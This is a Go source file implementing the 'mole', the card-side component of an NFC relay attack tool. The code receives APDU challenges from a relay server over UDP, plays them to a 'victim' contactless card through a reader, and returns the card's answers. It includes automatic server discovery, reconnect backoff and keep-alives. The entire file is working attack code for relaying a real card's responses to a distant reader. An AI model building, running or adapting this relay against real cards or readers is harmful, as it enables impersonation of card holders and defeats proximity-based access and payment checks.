// Package mole is the card side of the relay. It waits for challenges from
// the relay server, plays them to the victim card and sends the answers back.
package mole

import (
	"context"
	"errors"
	"fmt"
	"log"
	"net"
	"os"
	"strconv"
	"sync"
	"time"

	"github.com/cenkalti/backoff"
	"github.com/dotside-studios/nfc-relay/apdu"
	"github.com/dotside-studios/nfc-relay/clock"
	"github.com/dotside-studios/nfc-relay/relay"
	"github.com/dotside-studios/nfc-relay/victim"
	"gopkg.in/tomb.v2"
)

// Config describes the mole.
type Config struct {
	// ServerAddr pins the relay server. When empty the first beacon heard
	// on ListenAddr designates it.
	ServerAddr string
	ListenAddr string

	KeepAliveInterval    time.Duration
	InitialReconnect     time.Duration
	MaxReconnectInterval time.Duration

	Victim  *victim.Profile
	Clock   clock.Clock
	Logger  *log.Logger
	Verbose bool
}

func (c Config) withDefaults() Config {
	if c.ListenAddr == "" {
		c.ListenAddr = ":" + strconv.Itoa(relay.DefaultPort)
	}
	if c.KeepAliveInterval == 0 {
		c.KeepAliveInterval = time.Second
	}
	if c.InitialReconnect == 0 {
		c.InitialReconnect = 250 * time.Millisecond
	}
	if c.MaxReconnectInterval == 0 {
		c.MaxReconnectInterval = 5 * time.Second
	}
	if c.Victim == nil {
		c.Victim = victim.ST25TA
	}
	if c.Clock == nil {
		c.Clock = clock.New()
	}
	if c.Logger == nil {
		c.Logger = log.New(os.Stderr, "[mole] ", log.LstdFlags)
	}
	return c
}

// Status is a snapshot of the mole state.
type Status struct {
	Server        string          `json:"server,omitempty"`
	CardConnected bool            `json:"cardConnected"`
	Victim        *victim.Profile `json:"victim"`
	Challenges    uint64          `json:"challenges"`
	Responses     uint64          `json:"responses"`
	CardErrors    uint64          `json:"cardErrors"`
}

// Mole relays challenges from the server to the victim card.
type Mole struct {
	cfg    Config
	conn   net.PacketConn
	reader Reader
	logger *log.Logger

	// Wakes the card loop; buffered so requests coalesce.
	reconnect chan struct{}

	mu         sync.Mutex
	server     net.Addr
	pinned     bool
	card       Card
	challenges uint64
	responses  uint64
	cardErrors uint64

	t tomb.Tomb
}

// Listen opens the UDP socket described by cfg and wraps it in a Mole.
func Listen(reader Reader, cfg Config) (*Mole, error) {
	cfg = cfg.withDefaults()
	conn, err := net.ListenPacket("udp4", cfg.ListenAddr)
	if err != nil {
		return nil, relay.NewError(relay.ErrCodeListen, "listen", "failed to open UDP socket on "+cfg.ListenAddr, err)
	}
	m, err := New(conn, reader, cfg)
	if err != nil {
		conn.Close()
		return nil, err
	}
	return m, nil
}

// New builds a Mole on an already open socket.
func New(conn net.PacketConn, reader Reader, cfg Config) (*Mole, error) {
	cfg = cfg.withDefaults()
	m := &Mole{
		cfg:       cfg,
		conn:      conn,
		reader:    reader,
		logger:    cfg.Logger,
		reconnect: make(chan struct{}, 1),
	}

	if cfg.ServerAddr != "" {
		addr, err := ResolveServer(cfg.ServerAddr)
		if err != nil {
			return nil, err
		}
		m.server = addr
		m.pinned = true
	}
	return m, nil
}

// ResolveServer parses host[:port], defaulting to the relay port.
func ResolveServer(hostport string) (*net.UDPAddr, error) {
	if _, _, err := net.SplitHostPort(hostport); err != nil {
		hostport = net.JoinHostPort(hostport, strconv.Itoa(relay.DefaultPort))
	}
	addr, err := net.ResolveUDPAddr("udp4", hostport)
	if err != nil {
		return nil, relay.NewError(relay.ErrCodeNoServer, "resolve", "bad server address "+hostport, err)
	}
	return addr, nil
}

// Status returns a snapshot of the mole state.
func (m *Mole) Status() Status {
	m.mu.Lock()
	defer m.mu.Unlock()

	st := Status{
		CardConnected: m.card != nil,
		Victim:        m.cfg.Victim,
		Challenges:    m.challenges,
		Responses:     m.responses,
		CardErrors:    m.cardErrors,
	}
	if m.server != nil {
		st.Server = m.server.String()
	}
	return st
}

// Run serves until ctx is cancelled or Close is called.
func (m *Mole) Run(ctx context.Context) error {
	if m.pinned {
		m.logger.Printf("Relaying %s to server %s", m.cfg.Victim, m.server)
	} else {
		m.logger.Printf("Relaying %s, waiting for a server beacon on %s", m.cfg.Victim, m.conn.LocalAddr())
	}

	packets := make(chan datagram, 16)
	m.requestReconnect()
	m.t.Go(func() error {
		m.t.Go(func() error { return m.readLoop(packets) })
		m.t.Go(m.cardLoop)
		return m.mainLoop(ctx, packets)
	})

	err := m.t.Wait()
	m.dropCard(nil)
	if errors.Is(err, context.Canceled) {
		return nil
	}
	return err
}

// Close stops a running mole.
func (m *Mole) Close() error {
	m.t.Kill(nil)
	return m.conn.Close()
}

type datagram struct {
	from net.Addr
	data []byte
}

func (m *Mole) readLoop(out chan<- datagram) error {
	buf := make([]byte, relay.MaxDatagramSize)
	for {
		n, from, err := m.conn.ReadFrom(buf)
		if err != nil {
			if !m.t.Alive() {
				return nil
			}
			return relay.NewError(relay.ErrCodeSocket, "read", "UDP receive failed", err)
		}

		select {
		case out <- datagram{from: from, data: append([]byte(nil), buf[:n]...)}:
		case <-m.t.Dying():
			return nil
		}
	}
}

func (m *Mole) mainLoop(ctx context.Context, packets <-chan datagram) error {
	ticker := m.cfg.Clock.NewTicker(m.cfg.KeepAliveInterval)
	defer ticker.Stop()
	defer m.conn.Close()

	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-m.t.Dying():
			return nil
		case p := <-packets:
			m.handleDatagram(p.from, p.data)
		case <-ticker.C():
			m.keepAlive()
		}
	}
}

// cardLoop keeps a selected card available, retrying with exponential
// backoff whenever a reconnect is requested.
func (m *Mole) cardLoop() error {
	ctx := m.t.Context(nil)
	for {
		select {
		case <-m.t.Dying():
			return nil
		case <-m.reconnect:
		}

		if m.hasCard() {
			continue
		}

		b := backoff.NewExponentialBackOff()
		b.InitialInterval = m.cfg.InitialReconnect
		b.MaxInterval = m.cfg.MaxReconnectInterval
		b.MaxElapsedTime = 0

		err := backoff.RetryNotify(m.connectCard, backoff.WithContext(b, ctx), func(err error, next time.Duration) {
			m.logger.Printf("Victim card not ready (%v), retrying in %s", err, next.Round(time.Millisecond))
		})
		if err != nil && m.t.Alive() {
			m.logger.Printf("Giving up on card: %v", err)
		}
	}
}

// connectCard connects to the card and selects the victim application.
func (m *Mole) connectCard() error {
	card, err := m.reader.Connect(m.t.Context(nil))
	if err != nil {
		return err
	}

	resp, err := SelectVictim(card, m.cfg.Victim)
	if err != nil {
		card.Close()
		return err
	}

	m.mu.Lock()
	m.card = card
	m.mu.Unlock()

	m.logger.Printf("Victim %s selected on %s", m.cfg.Victim.Name(), m.reader)
	if m.cfg.Verbose {
		for _, line := range apdu.DescribeData(resp.Data) {
			m.logger.Print(line)
		}
	}
	return nil
}

func (m *Mole) hasCard() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.card != nil
}

func (m *Mole) requestReconnect() {
	select {
	case m.reconnect <- struct{}{}:
	default:
	}
}

// dropCard forgets the current card. cause is nil on shutdown.
func (m *Mole) dropCard(cause error) {
	m.mu.Lock()
	card := m.card
	m.card = nil
	if cause != nil {
		m.cardErrors++
	}
	m.mu.Unlock()

	if card == nil {
		return
	}
	card.Close()
	if cause != nil {
		m.logger.Printf("Lost victim card: %v", cause)
		m.requestReconnect()
	}
}

// handleDatagram processes one datagram.
func (m *Mole) handleDatagram(from net.Addr, data []byte) {
	msgType, payload := relay.ParseDatagram(data)
	if m.cfg.Verbose {
		m.logger.Printf("UDP from %s: %s, %d bytes", from, msgType, len(data))
	}

	m.mu.Lock()
	server := m.server
	found := false
	switch {
	case server != nil && server.String() == from.String():
	case m.pinned:
		m.mu.Unlock()
		return
	case msgType == relay.TypeFlowControl:
		// Any beacon designates the server until one is pinned
		m.server = from
		server = from
		found = true
	default:
		m.mu.Unlock()
		return
	}
	m.mu.Unlock()

	if found {
		m.logger.Printf("Found relay server at %s", from)
	}

	switch msgType {
	case relay.TypeFlowControl:
		m.send(server, relay.BeaconHello)
	case relay.TypeChallenge:
		m.relayChallenge(server, payload)
	}
}

// relayChallenge plays a challenge to the card and returns the answer data to
// the server. The status word is dropped: the emulator appends 90 00 itself.
func (m *Mole) relayChallenge(server net.Addr, challenge []byte) {
	if len(challenge) < apdu.HeaderLen {
		m.logger.Printf("Dropping %d-byte challenge: shorter than an APDU header", len(challenge))
		return
	}

	m.mu.Lock()
	m.challenges++
	card := m.card
	m.mu.Unlock()

	if card == nil {
		m.logger.Printf("Dropping %d-byte challenge: no victim card", len(challenge))
		m.requestReconnect()
		return
	}

	start := m.cfg.Clock.Now()
	rx, err := card.Transmit(challenge)
	if err != nil {
		m.dropCard(err)
		return
	}
	resp, err := apdu.ParseResponse(rx)
	if err != nil {
		m.dropCard(fmt.Errorf("card answered %x: %w", rx, err))
		return
	}
	if !resp.SW.IsSuccess() {
		m.logger.Printf("Card answered %s, relaying data only", resp.SW.Verbose())
	}

	m.send(server, relay.EncodeDatagram(relay.TypeResponse, resp.Data))

	m.mu.Lock()
	m.responses++
	m.mu.Unlock()

	if m.cfg.Verbose {
		m.logger.Printf("C %s -> R %s (%s)", apdu.Hex(challenge), apdu.Hex(rx), m.cfg.Clock.Now().Sub(start))
	}
}

func (m *Mole) keepAlive() {
	m.mu.Lock()
	server := m.server
	m.mu.Unlock()
	if server != nil {
		m.send(server, relay.BeaconHello)
	}
}

func (m *Mole) send(to net.Addr, b []byte) {
	if _, err := m.conn.WriteTo(b, to); err != nil {
		m.logger.Printf("Failed to send %d bytes to %s: %v", len(b), to, err)
	}
}
